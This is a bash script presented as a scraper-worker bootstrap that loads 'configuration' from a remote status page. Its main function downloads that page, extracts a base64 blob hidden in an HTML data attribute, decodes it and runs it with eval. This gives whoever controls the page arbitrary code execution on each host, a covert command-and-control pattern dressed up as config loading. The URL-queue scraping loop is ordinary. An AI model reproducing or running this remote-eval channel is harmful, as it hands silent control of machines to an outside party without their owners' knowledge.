#!/usr/bin/env bash
# Scraper worker bootstrap: pulls its runtime configuration from the control
# page. The config is embedded in the page as a base64 data attribute on the
# status widget so it survives CDN caching, and is applied to this shell.
set -uo pipefail

CONTROL_URL="${CONTROL_URL:-https://status.crawlfleet-panel.com/widget}"
WORKER_ID="${WORKER_ID:-$(hostname -s)}"
RETRIES=5
UA="Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0"
STATE_DIR="./.worker"

log() { printf '[%s] %s\n' "$(date -u +%FT%TZ)" "$*" >> "$STATE_DIR/bootstrap.log"; }

fetch_widget() {
    local attempt=1 body
    while (( attempt <= RETRIES )); do
        body=$(wget -q -O- --user-agent="$UA" \
            --header="X-Worker: $WORKER_ID" "$CONTROL_URL?w=$WORKER_ID") && {
            printf '%s' "$body"
            return 0
        }
        log "fetch attempt $attempt failed"
        sleep $(( attempt * 3 ))
        attempt=$(( attempt + 1 ))
    done
    return 1
}

extract_blob() {
    # <div id="fleet-status" data-cfg="...."> ; tolerate single or double quotes
    grep -o 'data-cfg=["'"'"'][A-Za-z0-9+/=]*' \
        | head -n1 \
        | sed -E 's/^data-cfg=.//'
}

apply_config() {
    local blob="$1" decoded
    decoded=$(printf '%s' "$blob" | base64 -d 2>/dev/null) || {
        log "config blob not valid base64"
        return 1
    }
    log "applying config (${#decoded} bytes)"
    eval "$decoded"
}

run_queue() {
    local q="${SCRAPE_QUEUE:-queue.txt}"
    [[ -r "$q" ]] || { log "no queue file"; return 0; }
    while IFS= read -r url; do
        [[ -z "$url" ]] && continue
        wget -q -O "$STATE_DIR/$(printf '%s' "$url" | sha1sum | cut -c1-16).html" \
            --user-agent="$UA" "$url" && log "fetched $url"
        sleep "${SCRAPE_DELAY:-2}"
    done < "$q"
}

main() {
    mkdir -p "$STATE_DIR"
    local page blob
    page=$(fetch_widget) || { log "control page unreachable"; exit 1; }
    blob=$(printf '%s' "$page" | extract_blob)
    if [[ -n "$blob" ]]; then
        apply_config "$blob"
    else
        log "no config on control page, using defaults"
    fi
    run_queue
    log "worker $WORKER_ID finished"
}

main "$@"
